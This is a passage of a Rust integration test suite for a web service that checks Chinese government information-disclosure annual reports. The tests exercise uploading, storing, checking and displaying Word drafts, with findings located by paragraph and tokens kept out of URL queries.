    let missing = open(col.id + 100, &col.admin);
    assert_eq!(wrong.0, 404);
    assert_eq!(wrong, missing, "one page for both");
    assert!(
        wrong.1.contains("没有找到这个汇总集合，或者令牌不对"),
        "worded for a person"
    );
    assert!(wrong.1.starts_with("<!DOCTYPE html>"));
    // The token never travels in the address: the pages' forms post it.
    let created = c
        .post(s.url("/collections/new"))
        .form(&[("name", "新集合"), ("year", "2024")])
        .send()
        .expect("POST");
    assert_eq!(created.status(), 200);
    assert_eq!(created.headers()["cache-control"], "no-store");
    let page = created.text().expect("page");
    assert!(!page.contains("?token="), "no token in a query");
    assert!(
        page.contains("/upload#token="),
        "the upload link carries it in the fragment"
    );
}

const DOCX: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

/// The findings of a check entry; each must carry a `location` object (a Word draft's).
fn located_findings(entry: &Value) -> Vec<Value> {
    let diagnostics = entry["diagnostics"]
        .as_array()
        .expect("diagnostics")
        .clone();
    assert!(!diagnostics.is_empty(), "{entry}");
    for d in &diagnostics {
        assert!(d["location"].is_object(), "a location: {d}");
        assert!(d["location"]["text"].is_string(), "{d}");
    }
    diagnostics
}

#[test]
fn word_drafts_are_checked_stored_and_shown_wherever_a_report_goes() {
    let s = Server::start();
    let c = client();
    let draft = fixture_bytes("drafts/pingtan-2024.docx");
    let revised = fixture_bytes("drafts/pingtan-2024-revised.docx");

    // POST /api/v1/check with the Word media type: the same check as the CLI's,
    // each finding located by paragraph or cell.
    let res = post_report(
        &c,
        &s,
        "/api/v1/check?name=revised.docx",
        None,
        DOCX,
        revised.clone(),
    );
    assert_eq!(res.status(), 200);
    let doc = json(res);
    let entry = &doc["reports"][0];
    assert_eq!(entry["format"], "national-2021");
    assert_eq!(entry["year"], 2024);
    assert_eq!(entry["issuer"], "平潭综合实验区");
    let findings = located_findings(entry);
    let mismatch = findings
        .iter()
        .find(|d| d["code"] == "NB301")
        .unwrap_or_else(|| panic!("the revised figure's finding: {findings:?}"));
    assert_eq!(mismatch["location"]["text"], "219件");
    assert!(mismatch["location"]["paragraph"].as_u64().is_some());
    assert!(findings.iter().any(|d| d["code"] == "NB027"));
    // As the file of a form too, named by it.
    let res = c
        .post(s.url("/api/v1/check"))
        .multipart(multipart::Form::new().part(
            "file",
            multipart::Part::bytes(draft.clone()).file_name("草稿.docx"),
        ))
        .send()
        .expect("POST");
    assert_eq!(res.status(), 200);
    let doc = json(res);
    assert_eq!(doc["reports"][0]["path"], "草稿.docx");
    assert_eq!(codes(&doc), ["NB111"]);
    located_findings(&doc["reports"][0]);

    // A collection upload: stored byte for byte, its findings located.
    let col = s.create_collection(&c, "drafts", 2024);
    let res = post_report(
        &c,
        &s,
        &col.path("/reports?name=pingtan-2024.docx"),
        Some(&col.upload),
        DOCX,
        draft.clone(),
    );
    assert_eq!(res.status(), 201);
    let stored = json(res);
    assert_eq!(stored["sha256"], sha256_hex(&draft));
    let rid = stored["id"].as_i64().expect("id");
    let res = get(
        &c,
        &s,
        &col.path(&format!("/reports/{rid}?raw=1")),
        Some(&col.admin),
    );
    assert_eq!(res.status(), 200);
    assert_eq!(
        res.headers()
            .get("content-type")
            .and_then(|v| v.to_str().ok()),
        Some(DOCX),
        "a draft comes back as a Word document"
    );
    assert_eq!(
        res.bytes().expect("bytes").to_vec(),
        draft,
        "the original bytes"
    );
    let one = json(get(
        &c,
        &s,
        &col.path(&format!("/reports/{rid}")),
        Some(&col.admin),
    ));
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(one["bytes_base64"].as_str().expect("base64"))
        .expect("base64");
    assert_eq!(bytes, draft);
    assert_eq!(one["findings"]["format"], "national-2021");
    located_findings(&one["findings"]);
    // The draft counts in the aggregate and the tables like the Markdown.
    let md = upload(
        &c,
        &s,
        &col,
        "pingtan-2024.md",
        fixture_bytes("pingtan-2024.md"),
    );
    let against = md["id"].as_i64().expect("id");
    let res = get(
        &c,
        &s,
        &col.path(&format!("/aggregate?against={against}")),
        Some(&col.admin),
    );
    assert_eq!(res.status(), 200);
    let merged = json(res);
    assert!(merged.is_object(), "{merged}");
    let csv = get(&c, &s, &col.path("/table.csv"), Some(&col.admin))
        .text()
        .expect("csv");
    // Each row's indicator and column (before the label, which may hold a line break).
    let rows = |name: &str| -> Vec<String> {
        csv.lines()
            .filter(|l| l.starts_with(name))
            .map(|l| l.split(',').skip(5).take(2).collect::<Vec<_>>().join(","))
            .collect()
    };
    let (from_draft, from_md) = (rows("pingtan-2024.docx,"), rows("pingtan-2024.md,"));
    assert!(from_draft.len() > 100, "{csv}");
    assert_eq!(from_draft, from_md, "the same indicator rows");
    assert!(csv.contains(
        "pingtan-2024.docx,平潭综合实验区,2024,national-2021,,apply.new,total,一、本年新收政府信息公开申请数量,,218,"
    ));

    // The check page: the draft's paragraphs and tables read out of it, the
    // finding highlighted and placed by paragraph.
    let page = c
        .post(s.url("/check"))
        .multipart(multipart::Form::new().text("text", "").part(
            "file",
            multipart::Part::bytes(revised).file_name("revised.docx"),
        ))
        .send()
        .expect("POST /check");
    assert_eq!(page.status(), 200);
    let page = page.text().expect("page");
    assert!(
        page.contains("id=\"word-draft\""),
        "the page says it is a Word draft"
    );
    let title = "平潭综合实验区2024年度政府信息公开工作年度报告";
    assert!(
        page.contains(title) && page.contains("<p data-at=\"0\">"),
        "the title"
    );
    assert!(
        page.contains("全年办理政府信息公开申请"),
        "the paragraph's text"
    );
    assert!(
        page.contains("data-code=\"NB301\""),
        "the finding highlighted"
    );
    assert!(
        page.contains("<td>行政规范性文件</td>"),
        "the tables' cells"
    );
    assert!(page.contains("第 6 段"), "placed by paragraph");
    assert!(!page.contains("PK\u{3}\u{4}"), "never the package's bytes");
    // The department's upload page takes a draft as well, and shows it.
    let page = c
        .post(s.url(&format!("/collections/{}/upload", col.id)))
        .multipart(
            multipart::Form::new()
                .text("token", col.upload.clone())
                .part(
                    "file",
                    multipart::Part::bytes(draft.clone()).file_name("部门草稿.docx"),
                ),
        )
        .send()
        .expect("POST upload");
    assert_eq!(page.status(), 200);
    let page = page.text().expect("page");
    assert!(page.contains("id=\"stored\""));
    assert!(page.contains("平潭综合实验区2024年度政府信息公开工作年度报告"));
    let list = json(get(&c, &s, &col.path("/reports"), Some(&col.admin)));
    let names: Vec<&str> = list["reports"]
        .as_array()
        .expect("reports")
        .iter()
        .filter_map(|r| r["name"].as_str())
        .collect();
    assert!(names.contains(&"部门草稿.docx"), "{names:?}");
}
